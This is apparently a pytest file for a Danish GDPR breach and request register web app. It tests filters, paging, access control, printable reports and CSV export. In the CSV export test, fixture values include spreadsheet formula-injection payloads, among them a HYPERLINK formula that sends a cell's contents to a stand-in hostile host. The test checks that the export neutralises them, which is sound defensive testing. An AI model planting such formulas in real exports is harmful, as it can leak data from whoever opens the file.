"""The registers in the browser: tables with filters and pages, CSV files for Danish Excel, a report to print."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from collections.abc import Sequence
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import httpx
import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from sqlalchemy import insert

from activities.db import breach_register, case_events
from tests.support import CaseDriver, RequestDriver
from tests.web.support import log_in
from web.routes import register as register_routes

COPENHAGEN = ZoneInfo("Europe/Copenhagen")
DANISH_DATE = re.compile(r"^\d{2}-\d{2}-\d{4} \d{2}:\d{2}$")


def _row(case_id: str, aware_at: datetime, **overrides) -> dict:
    """A breach register row as the register activity writes it (only the columns that may not be empty)."""
    row = dict(case_id=case_id, state="fact_finding", org_role="controller", is_breach=True,
               f1_discovered_by="Rasmus Pedersen <rasmus@skole.dk>", aware_at=aware_at,
               f3_what_happened="Elevliste sendt til forkert klasse", f5_data_categories="Navne",
               dpo_contact="Dorthe DPO <dpo@skole.dk>", deadline=aware_at + timedelta(hours=72), overdue=False,
               follow_ups=0, updated_at=aware_at, last_seq=1)
    return row | overrides


def _insert(web: FastAPI, *rows: dict, events: Sequence[dict] = ()) -> None:
    with web.state.engine.begin() as conn:
        for row in rows:
            conn.execute(insert(breach_register).values(**row))
        for event in events:
            conn.execute(insert(case_events).values(**event))


async def _until_listed(client: httpx.AsyncClient, path: str, case_id: str) -> httpx.Response:
    """The register activity runs right after a step: wait for the row."""
    for _ in range(150):
        page = await client.get(path)
        if case_id in page.text:
            return page
        await asyncio.sleep(0.1)
    raise AssertionError(f"{case_id} never appeared in {path}")


def _table_ids(html: str) -> list[str]:
    return re.findall(r'<td><a href="/(?:brud|anmodning)/([^"/]+)">', html)


async def test_a_case_opened_appears_in_the_breach_register_and_the_filters_narrow_it(
        web: FastAPI, browser: httpx.AsyncClient, driver: CaseDriver):
    handle = await driver.open()
    case_id = handle.id
    await log_in(browser, "mille@skole.dk")
    page = await _until_listed(browser, "/register/brud", case_id)
    assert page.status_code == 200
    for heading in ("Opmærksom på bruddet", "Art", "Status", "Anmeldt til Datatilsynet", "Registrerede underrettet",
                    "Frist overholdt", "Lukket"):
        assert f">{heading}</th>" in page.text
    assert f'<a href="/brud/{case_id}">{case_id}</a>' in page.text
    assert "Åben: Vurdér om hændelsen er et brud" in page.text and "Endnu ikke vurderet" in page.text
    assert "reported" not in page.text and "fact_finding" not in page.text  # no internal codes
    assert '<a href="/register/brud">Register</a>' in page.text  # in the navigation for a key person

    year = datetime.now(COPENHAGEN).year
    shown = {query: case_id in (await browser.get(f"/register/brud?{query}")).text for query in (
        "status=aabne", "status=lukkede", "status=alle", "anmeldt=nej", "anmeldt=ja", f"aar={year}", "aar=2001",
        f"status=aabne&anmeldt=nej&aar={year}")}
    assert shown == {"status=aabne": True, "status=lukkede": False, "status=alle": True, "anmeldt=nej": True,
                     "anmeldt=ja": False, f"aar={year}": True, "aar=2001": False,
                     f"status=aabne&anmeldt=nej&aar={year}": True}


async def test_closed_cases_are_in_the_register_fifty_to_a_page_with_the_rest_counted(
        web: FastAPI, browser: httpx.AsyncClient):
    start = datetime(2026, 3, 1, 9, 0, tzinfo=timezone.utc)
    rows = [_row(f"breach-2026-{n:04d}", start + timedelta(hours=n)) for n in range(1, 56)]
    rows += [_row(f"breach-2025-{n:04d}", start - timedelta(days=400 - n), state="closed",
                  closed_at=start - timedelta(days=300), f8_authority_notified_at=start - timedelta(days=399))
             for n in range(1, 6)]
    _insert(web, *rows)
    await log_in(browser, "leder@skole.dk")  # management reads the register too

    first = await browser.get("/register/brud")
    assert first.status_code == 200 and "60 sager" in first.text
    ids = _table_ids(first.text)
    assert len(ids) == 50 and ids[0] == "breach-2026-0055"  # the newest awareness first
    assert "Og 10 sager mere." in first.text and 'href="/register/brud?side=2"' in first.text
    second = await browser.get("/register/brud?side=2")
    assert len(_table_ids(second.text)) == 10 and "breach-2025-0005" in second.text and "mere." not in second.text

    closed = await browser.get("/register/brud?status=lukkede")
    assert sorted(_table_ids(closed.text)) == [f"breach-2025-{n:04d}" for n in range(1, 6)]
    assert "<td>Lukket</td>" in closed.text and "<td>05-05-2025 11:00</td>" in closed.text  # closed, and when
    assert sorted(_table_ids((await browser.get("/register/brud?anmeldt=ja")).text)) == sorted(_table_ids(closed.text))
    assert len(_table_ids((await browser.get("/register/brud?aar=2025")).text)) == 5
    paged = await browser.get("/register/brud?status=aabne&side=2")
    assert len(_table_ids(paged.text)) == 5 and '<a href="/register/brud?status=aabne">Forrige side</a>' in paged.text


async def test_the_csv_file_opens_in_danish_excel_and_a_formula_is_never_run(
        web: FastAPI, browser: httpx.AsyncClient):
    aware = datetime(2026, 12, 2, 13, 5, tzinfo=timezone.utc)  # 14:05 in Copenhagen (winter time)
    _insert(web, _row("breach-2026-0101", aware, state="closed", closed_at=aware + timedelta(days=20),
                      f8_authority_notified_at=aware + timedelta(hours=30), risk_level="risk",
                      f3_what_happened='=HYPERLINK("http://ondt.example/?x="&A1;"Klik")',
                      f4_cause="+45 11 22 33 44", f7_remedial_measures="-1+1", lessons_learned="@SUM(1;2)",
                      f5_data_categories="Navne; CPR-numre og \"særlige\" oplysninger\nfordelt på to linjer"),
            _row("breach-2026-0102", aware + timedelta(days=1), is_breach=False, state="closed",
                 closed_at=aware + timedelta(days=2), not_breach_reason="Ingen personoplysninger"))
    await log_in(browser, "dorthe@skole.dk")

    response = await browser.get("/register/brud.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;") and re.search(r'filename="brudregister-\d{4}-\d{2}-\d{2}\.csv"',
                                                                disposition)
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads æøå right
    text = response.content.decode("utf-8-sig")
    header_line = text.split("\r\n", 1)[0]
    assert header_line.startswith("Sagsnummer;Status;Art;") and "Årsag" in header_line and len(header_line.split(";")) > 30

    table = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert [r["Sagsnummer"] for r in table] == ["breach-2026-0102", "breach-2026-0101"]
    notified = table[1]
    assert notified["Opmærksom på bruddet"] == "02-12-2026 14:05"
    assert notified["Anmeldt til Datatilsynet"] == "03-12-2026 20:05"
    assert notified["Lukket"] == "22-12-2026 14:05" and DANISH_DATE.match(notified["Frist for anmeldelse"])
    assert notified["Er hændelsen et brud"] == "Ja" and table[0]["Er hændelsen et brud"] == "Nej"
    assert notified["Frist overholdt"] == "Ja" and notified["Risiko"] == "Risiko" and notified["Status"] == "Lukket"
    assert table[0]["Art"] == "Ikke et brud" and table[0]["Anmeldt til Datatilsynet"] == "Nej"
    # ';', quotes and line breaks inside a cell survive the round trip
    assert notified["Kategorier af personoplysninger"] == "Navne; CPR-numre og \"særlige\" oplysninger\nfordelt på to linjer"
    # Formula injection: every cell Excel would evaluate starts with an apostrophe
    assert notified["Hvad skete der"] == "'" + '=HYPERLINK("http://ondt.example/?x="&A1;"Klik")'
    assert notified["Årsag"] == "'+45 11 22 33 44"
    assert notified["Afhjælpende foranstaltninger"] == "'-1+1" and notified["Erfaringer"] == "'@SUM(1;2)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in table for cell in row.values())

    filtered = (await browser.get("/register/brud.csv?anmeldt=ja")).content.decode("utf-8-sig")
    assert [r["Sagsnummer"] for r in csv.DictReader(io.StringIO(filtered, newline=""), delimiter=";")] == [
        "breach-2026-0101"]


async def test_a_request_appears_in_the_request_register_and_its_csv(
        web: FastAPI, browser: httpx.AsyncClient, requests: RequestDriver):
    handle = await requests.open("access")
    await log_in(browser, "mille@skole.dk")
    page = await _until_listed(browser, "/register/anmodninger", handle.id)
    for heading in ("Type", "Modtaget", "Frist", "Besvaret rettidigt", "Status", "Lukket"):
        assert f">{heading}</th>" in page.text
    assert "Indsigt (art. 15)" in page.text and f'<a href="/anmodning/{handle.id}">' in page.text
    assert handle.id in (await browser.get("/register/anmodninger?type=access&status=aabne")).text
    assert handle.id not in (await browser.get("/register/anmodninger?type=erasure")).text
    assert handle.id not in (await browser.get("/register/anmodninger?status=lukkede")).text

    response = await browser.get("/register/anmodninger.csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert re.search(r'filename="anmodningsregister-', response.headers["content-disposition"])
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    row = next(r for r in rows if r["Sagsnummer"] == handle.id)
    assert row["Type"] == "Indsigt (art. 15)" and row["Modtaget via"] == "E-mail"
    assert DANISH_DATE.match(row["Modtaget"]) and DANISH_DATE.match(row["Frist"])
    assert row["Fristen forlænget"] == "Nej" and row["Besvaret rettidigt"] == "Ikke endnu"
    assert "karen" not in response.text.lower()  # how the person is found stays out of the file


@pytest.mark.parametrize("email", ["ansat@skole.dk", "ejer@skole.dk", "drift@skole.dk"])
async def test_only_key_persons_the_dpo_and_management_may_read_the_registers(
        web: FastAPI, browser: httpx.AsyncClient, email: str):
    _insert(web, _row("breach-2026-0001", datetime(2026, 1, 5, 8, 0, tzinfo=timezone.utc)))
    await log_in(browser, email)
    paths = [route.path.replace("{case_id}", "breach-2026-0001") for route in register_routes.router.routes
             if isinstance(route, APIRoute)]
    assert len(paths) == 5
    for path in paths:
        response = await browser.get(path)
        assert response.status_code == 403, path
        assert "breach-2026-0001" not in response.text and "Rasmus" not in response.text
    assert "/register/brud" not in (await browser.get("/")).text  # and the navigation does not offer it


async def test_the_printable_report_shows_the_case_its_decisions_with_names_and_the_timeline(
        web: FastAPI, browser: httpx.AsyncClient, driver: CaseDriver):
    handle = await driver.open()
    await driver.to_fact_finding(handle)
    await CaseDriver.settle(handle)
    await log_in(browser, "dorthe@skole.dk")
    report = await browser.get(f"/brud/{handle.id}/rapport")
    assert report.status_code == 200
    html = report.text
    assert f"sag {handle.id}" in html and "<h2>Registreringen</h2>" in html and "<h2>Beslutninger</h2>" in html
    decisions = html.split("<h2>Beslutninger</h2>")[1].split("<h2>")[0]
    assert "Mille Nordstrand (nøgleperson)" in decisions and "Vurderet som brud" in decisions
    assert "Bruddet inddæmmet" not in decisions  # a step, not a decision: in the timeline
    timeline = html.split("<h2>Tidslinje</h2>")[1]
    assert "Muligt brud anmeldt" in timeline and "Bruddet inddæmmet" in timeline
    assert "Elevliste med CPR-numre" in html and "Frist for anmeldelse" in html
    assert "Der er ingen godkendte udkast i sagen." in html  # Temporal answered: none approved yet


async def test_the_report_of_a_closed_case_stands_on_the_register_alone(web: FastAPI, browser: httpx.AsyncClient):
    aware = datetime(2025, 6, 2, 8, 0, tzinfo=timezone.utc)
    case_id = "breach-2025-0042"  # no workflow in Temporal: its history is long gone
    _insert(web, _row(case_id, aware, state="closed", closed_at=aware + timedelta(days=30), risk_level="no_risk",
                      risk_reasons="Krypteret bærbar", no_decided_by="Mille Nordstrand (nøgleperson) og Dorthe DPO (DPO)",
                      f8_1_reason_not_notified="Krypteret bærbar"),
            events=[dict(case_id=case_id, seq=1, at=aware, actor_name="Rasmus Pedersen", actor_role="reporter",
                         action="report", summary="Muligt brud anmeldt"),
                    dict(case_id=case_id, seq=2, at=aware + timedelta(hours=2), actor_name="Dorthe DPO",
                         actor_role="dpo", action="co_decide", summary="DPO medbeslutter: ingen risiko")])
    await log_in(browser, "mille@skole.dk")
    html = (await browser.get(f"/brud/{case_id}/rapport")).text
    assert case_id in html and "Dorthe DPO (DPO)" in html and "DPO medbeslutter: ingen risiko" in html
    assert "02-06-2025 10:00" in html  # summer time
    assert "kunne ikke hentes fra sagsforløbet" in html
    assert (await browser.get("/brud/breach-2025-0043/rapport")).status_code == 404
